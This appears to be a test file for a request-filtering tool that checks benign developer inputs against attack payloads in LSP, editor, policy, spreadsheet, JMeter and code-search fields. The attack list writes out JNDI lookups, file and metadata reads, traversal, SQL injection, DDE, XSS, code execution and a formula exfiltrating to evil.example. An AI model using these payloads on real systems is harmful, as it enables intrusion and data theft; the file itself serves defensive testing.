/**
 * Blind benign set 8's consoles through the full pipeline (bundled rules + the shipped model, `warden eval`):
 * a language server's document identifiers (path-mention.ts `isLspDocumentUri`), an editor's `${env:…}`
 * variables (9000801 rev 4), an access policy's path globs (path-mention.ts `isMentionableGlob`) and a workbook's
 * formulas (spreadsheet-formula.ts), a load-test plan's function references (jmeter-functions.ts) and a code
 * search (code-search.ts) pass, and
 * attacks placed in the same fields — a file: URI of a secret or at a host, a traversal, a nested JNDI lookup,
 * SQL hidden between glob comments, SQL, DDE, a fetching function or markup as a formula, a code-running JMeter function or an expression or
 * injection beside the references — are still blocked.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const json = (path: string, body: (v: string) => unknown): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: 'code.example.dev', 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });

const xmlEscape = (v: string): string => v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const jmeterPlan: Carrier = (v) => ({
  method: 'POST',
  path: '/api/2.0/jmeter/plans',
  query: '',
  headers: { Host: 'load.example.io', 'Content-Type': 'application/xml' },
  body: `<?xml version="1.0" encoding="UTF-8"?>\n<jmeterTestPlan version="1.2" properties="5.0" jmeter="5.6.3">\n  <hashTree>\n    <HTTPSamplerProxy guiclass="HttpTestSampleGui" testclass="HTTPSamplerProxy" testname="search">\n      <stringProp name="HTTPSampler.domain">shop.example.com</stringProp>\n      <stringProp name="HTTPSampler.path">${xmlEscape(v)}</stringProp>\n      <stringProp name="HTTPSampler.method">GET</stringProp>\n    </HTTPSamplerProxy>\n  </hashTree>\n</jmeterTestPlan>\n`,
});

const CARRIERS: Record<string, Carrier> = {
  'JMeter sampler': jmeterPlan,
  'code search': (v) => ({ method: 'GET', path: '/api/v1/search/code', query: `q=${encodeURIComponent(v)}&page=1`, headers: { Host: 'sourcegraph.example.io' } }),
  'LSP didOpen': json('/lsp/typescript', (v) => ({ jsonrpc: '2.0', method: 'textDocument/didOpen', params: { textDocument: { uri: v, languageId: 'typescript', version: 1, text: 'export const x = 1;\n' } } })),
  'LSP completion': json('/lsp/typescript', (v) => ({ jsonrpc: '2.0', id: 7, method: 'textDocument/completion', params: { textDocument: { uri: v }, position: { line: 4, character: 10 } } })),
  'fetch API': json('/api/fetch', (v) => ({ uri: v })),
  'editor settings': json('/vscode-remote-resource', (v) => ({ 'editor.formatOnSave': true, 'terminal.integrated.env.linux': { PATH: v } })),
  'policy data': json('/v1/data/acme/http/allow', (v) => ({ admin_paths: [v, '/actuator/*'], trusted_cidrs: ['10.0.0.0/8'] })),
  'page parameter': json('/api/render', (v) => ({ page: v })),
  'workbook range': json("/v1.0/me/drive/items/01ABC/workbook/worksheets/Budget/range(address='B2:C2')", (v) => ({ formulas: [[v, '=ROUND(B2*2,2)']] })),
};

const BENIGN: [string, string][] = [
  ['LSP didOpen', 'file:///workspace/src/exec.ts'],
  ['LSP completion', 'file:///workspace/src/server.ts'],
  ['LSP completion', 'file:///c%3A/Users/ann/My%20Project/src/app.ts'],
  ['editor settings', '${env:HOME}/.local/bin:${env:PATH}'],
  ['policy data', '/admin/*'],
  ['policy data', '/debug/pprof/*'],
  ['workbook range', '=LET(x,FILTER(Tx[Amount],Tx[Cat]="Travel"),SUM(x)/COUNT(x))'],
  ['workbook range', '=SUMIFS(Orders!E:E,Orders!C:C,"EU",Orders!B:B,">="&DATE(2026,11,1))'],
  ['JMeter sampler', '/api/search?q=${__urlencode(${term})}&page=${__Random(1,5)}'],
  ['JMeter sampler', '/api/orders/${orderId}?ts=${__time(yyyyMMddHHmmss,)}&rid=${__UUID()}'],
  ['code search', 'Runtime.getRuntime().exec lang:java repo:acme/legacy-admin'],
  ['code search', 'child_process lang:typescript -path:node_modules/'],
];

const ATTACKS: [string, string][] = [
  ['LSP didOpen', 'file:///etc/passwd'],
  ['LSP completion', 'file:///proc/self/environ'],
  ['LSP completion', 'file://169.254.169.254/latest/meta-data/'],
  ['LSP didOpen', 'file:///workspace/../../../etc/shadow'],
  ['LSP didOpen', 'file:///%2e%2e/%2e%2e/etc/hosts'],
  ['LSP completion', 'file:///c%3A/windows/win.ini'],
  ['LSP completion', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ['fetch API', 'file:///workspace/src/server.ts'],
  ['fetch API', 'file:///etc/hosts'],
  ['editor settings', '${${env:NaN:-j}ndi:ldap://x.example/a}'],
  ['editor settings', '${jndi:ldap://x.example/${env:USER}}'],
  ['editor settings', '${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}'],
  ['policy data', '/*/union/*/select/*/'],
  ['policy data', '/etc/passwd*'],
  ['policy data', "/admin/*' or '1'='1"],
  ['page parameter', '/admin/*'],
  ['workbook range', '=IF(1=1,SLEEP(5),0)--'],
  ['workbook range', '=IF(COUNT(*)!=-8,(SLEEP(3)),0)'],
  ['workbook range', "=cmd|' /C calc'!A0"],
  ['workbook range', '=HYPERLINK("http://evil.example/?"&A1,"x")'],
  ['workbook range', '=SUM(1) OR 1=1'],
  ['workbook range', "=\"x' OR '1'='1\""],
  ['workbook range', '="<script>alert(1)</script>"'],
  ['workbook range', "' UNION SELECT password FROM users--"],
  ['JMeter sampler', "/api/search?q=${__groovy(Runtime.getRuntime().exec('id'))}"],
  ['JMeter sampler', "/api/search?q=${T(java.lang.Runtime).getRuntime().exec('id')}"],
  ['JMeter sampler', '/api/search?q=${__Random(1,5)}${jndi:ldap://x.example/a}'],
  ['JMeter sampler', "/api/search?q=${__Random(1,5)}' UNION SELECT password FROM users--"],
  ['JMeter sampler', '/api/search?q=${__Random(1,5)}<script>alert(1)</script>'],
  ['JMeter sampler', '${__FileToString(/etc/passwd,,)}'],
  ['code search', "Runtime.getRuntime().exec('id') lang:java"],
  ['code search', "x' UNION SELECT password FROM users-- lang:sql"],
  ['code search', '<script>alert(1)</script> lang:js'],
  ['code search', '../../../../etc/passwd lang:x'],
];

testCarriers("blind benign set 8's console carriers through the full pipeline", 'lets document identifiers, editor variables, policy globs, formulas, load-test references and code searches pass', CARRIERS, BENIGN, ATTACKS);
